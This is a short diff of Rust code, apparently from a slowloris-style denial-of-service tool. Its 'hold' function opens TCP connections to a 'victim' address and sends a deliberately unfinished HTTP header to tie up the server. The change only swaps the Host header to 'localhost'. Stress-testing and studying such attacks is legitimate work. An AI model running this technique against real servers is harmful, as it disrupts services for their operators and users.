@@ -73,7 +73,7 @@ pub fn slow_and_greedy(victim: SocketAddr, flood: &Flood) {
 fn hold(victim: SocketAddr, flood: &Flood) {
     let open = || -> std::io::Result<TcpStream> {
         let mut stream = stream_from(local(0, 2), victim)?;
-        stream.write_all(b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ")?;
+        stream.write_all(b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ")?;
         stream.set_nonblocking(true)?;
         Ok(stream)
     };
